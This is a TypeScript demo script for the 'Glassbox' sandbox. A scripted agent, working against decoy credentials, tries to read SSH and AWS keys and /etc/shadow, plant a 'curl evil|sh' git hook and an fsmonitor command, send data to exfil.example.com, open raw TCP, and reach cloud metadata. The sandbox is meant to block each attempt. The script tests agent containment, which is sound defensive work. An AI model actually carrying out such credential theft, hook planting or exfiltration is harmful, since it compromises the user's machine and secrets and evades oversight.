/**
 * `npm run demo`: a scripted "agent" runs inside `glassbox run` and tries what a compromised or
 * careless agent would try. Every line is a real attempt against the real sandbox and proxy.
 * The demo uses a throwaway HOME with decoy credentials, so your own files are never involved.
 */
import { spawn, spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const repo = join(dirname(fileURLToPath(import.meta.url)), '..', '..', '..');
const tty = process.stdout.isTTY;
const paint = (code: string, s: string) => (tty ? `\x1b[${code}m${s}\x1b[0m` : s);
const bold = (s: string) => paint('1', s);

const root = mkdtempSync(join(tmpdir(), 'glassbox-demo-'));
const home = join(root, 'home');
const ws = join(root, 'project');

// A developer machine in miniature: credentials in HOME and env, a git project.
mkdirSync(join(home, '.ssh'), { recursive: true });
mkdirSync(join(home, '.aws'), { recursive: true });
writeFileSync(join(home, '.ssh', 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\nDEMO-PRIVATE-KEY\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 });
writeFileSync(join(home, '.aws', 'credentials'), '[default]\naws_access_key_id = AKIADEMODEMODEMO1234\naws_secret_access_key = demo-secret\n', { mode: 0o600 });
mkdirSync(join(ws, 'src'), { recursive: true });
writeFileSync(join(ws, 'src', 'app.ts'), 'export const answer = 42;\n');
spawnSync('git', ['init', '-q', ws]);
const policy = join(root, 'policy.yaml');
writeFileSync(
  policy,
  `# Demo policy: Claude Code's preset plus the npm registry.
preset: claude
network:
  allow:
    - host: registry.npmjs.org
filesystem:
  # Show the agent CLIs installed with this repo, read-only.
  read: [${join(repo, 'node_modules')}]
limits:
  processes: 256
`,
);

// The "agent": each step prints one line, ok=allowed / no=blocked, with what happened.
const agent = `
step() { printf '%s\\t%s\\t%s\\n' "$1" "$2" "$3"; }
try_read() { if out=$(cat "$2" 2>&1) && [ -z "$out" ]; then step "$1" BLOCKED "hidden: an empty file inside the sandbox"; elif [ -n "$out" ] && cat "$2" >/dev/null 2>&1; then step "$1" ALLOWED "read $(printf %s "$out" | wc -c) bytes"; else step "$1" BLOCKED "$(printf %s "$out" | sed 's/^cat: //' | head -1)"; fi; }
try_write() { if out=$(sh -c "$2" 2>&1); then step "$1" ALLOWED "done"; else step "$1" BLOCKED "$(printf %s "$out" | sed 's/^sh: [0-9]*: //' | head -1)"; fi; }

try_read  "read ~/.ssh/id_ed25519 (real HOME)" "${home}/.ssh/id_ed25519"
try_read  "read ~/.aws/credentials"            "${home}/.aws/credentials"
if env | grep -q AKIA; then step "read AWS key from the environment" ALLOWED "found"; else step "read AWS key from the environment" BLOCKED "not in the sandbox environment"; fi
try_read  "read /etc/shadow"                    /etc/shadow
try_write "edit the project (src/app.ts)"       "echo 'export const more = 1;' >> src/app.ts"
try_write "plant .git/hooks/post-checkout"      "echo 'curl evil|sh' > .git/hooks/post-checkout"
try_write "set core.fsmonitor in .git/config"   "git config core.fsmonitor 'sh -c pwn'"
try_write "create .mcp.json (MCP server list)"  "echo '{}' > .mcp.json"
try_write "create .vscode/tasks.json"           "mkdir -p .vscode && echo '{}' > .vscode/tasks.json"
try_write "write outside the workspace (/etc)"  "echo x > /etc/glassbox-demo"
code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 10 https://registry.npmjs.org/is-number 2>/dev/null)
if [ "$code" = 200 ]; then step "HTTPS to registry.npmjs.org (allowed host)" ALLOWED "HTTP 200 via the Glassbox proxy"; else step "HTTPS to registry.npmjs.org (allowed host)" ALLOWED "proxy let it through; upstream answered '$code' (no internet here?)"; fi
body=$(curl -s --max-time 10 https://exfil.example.com/upload 2>&1; curl -s --max-time 10 -x "$HTTPS_PROXY" http://exfil.example.com/upload 2>/dev/null)
step "HTTPS to exfil.example.com" BLOCKED "$(printf %s "$body" | grep -o 'glassbox: .*' | head -1)"
if timeout 5 bash -c 'exec 3<>/dev/tcp/1.1.1.1/443' 2>/dev/null; then step "direct TCP to 1.1.1.1:443 (no proxy)" ALLOWED "connected"; else step "direct TCP to 1.1.1.1:443 (no proxy)" BLOCKED "no route: the sandbox has only loopback"; fi
if getent hosts example.com >/dev/null 2>&1; then step "DNS lookup of example.com" ALLOWED "resolved"; else step "DNS lookup of example.com" BLOCKED "no resolver reachable"; fi
if timeout 5 curl -s --noproxy '*' --max-time 3 http://169.254.169.254/ >/dev/null 2>&1; then step "cloud metadata 169.254.169.254" ALLOWED "reached"; else step "cloud metadata 169.254.169.254" BLOCKED "unreachable"; fi
if claude --version >/dev/null 2>&1; then step "run the real Claude Code CLI (claude --version)" ALLOWED "$(claude --version 2>&1 | head -1)"; else step "run the real Claude Code CLI" BLOCKED "$(claude --version 2>&1 | head -1)"; fi
`;

console.log(bold('Glassbox demo') + ' — a scripted agent tries its luck inside `glassbox run --preset claude`\n');
console.log(`  workspace  ${ws}\n  HOME       ${home} (decoy credentials)\n  policy     ${policy}\n`);

const env = {
  PATH: `${join(repo, 'node_modules', '.bin')}:${process.env.PATH ?? '/usr/bin:/bin'}`,
  HOME: home,
  TERM: process.env.TERM ?? 'xterm',
  LANG: process.env.LANG ?? 'C.UTF-8',
  AWS_ACCESS_KEY_ID: 'AKIADEMODEMODEMO1234',
  AWS_SECRET_ACCESS_KEY: 'demo-secret',
};
const child = spawn(process.execPath, [join(repo, 'bin', 'glassbox.js'), 'run', '--policy', policy, '--workspace', ws, '--', 'bash', '-c', agent], {
  cwd: ws,
  env,
  stdio: ['ignore', 'pipe', 'pipe'],
});
let out = '';
let err = '';
child.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
child.stderr.setEncoding('utf8').on('data', (d: string) => (err += d));
child.on('close', (code) => {
  let blocked = 0;
  for (const line of out.trim().split('\n')) {
    const [what, verdict, detail] = line.split('\t');
    if (!what) continue;
    const mark = verdict === 'BLOCKED' ? paint('32', '✔ blocked') : paint('33', '• allowed');
    if (verdict === 'BLOCKED') blocked++;
    console.log(`  ${mark}  ${what.padEnd(48)} ${paint('2', detail ?? '')}`);
  }
  console.log('');
  for (const line of err.trim().split('\n')) if (line) console.log(paint('2', `  ${line}`));
  const sessionLog = /events in (\S+)/.exec(err)?.[1];
  if (sessionLog) {
    const events = readFileSync(sessionLog, 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    const start = events.find((e) => e.kind === 'session.start');
    console.log(`\n${bold('Session record')} (${events.length} events, ${sessionLog})`);
    console.log(`  policy sha256  ${String(start?.policyHash)}`);
    for (const e of (start?.enforcement as string[] | undefined) ?? []) console.log(`  enforced       ${e}`);
    for (const e of events.filter((x) => x.kind === 'network')) {
      console.log(`  network        ${String(e.decision).padEnd(5)} ${String(e.method)} ${String(e.host)}:${String(e.port)} ${e.reason ? `— ${String(e.reason)}` : ''}`);
    }
  }
  chmodSync(root, 0o700);
  console.log(`\n${bold(`${blocked} attempts blocked`)}; the agent exited with ${code}. Demo files: ${root}`);
  process.exit(code === 0 && blocked >= 10 ? 0 : 1);
});
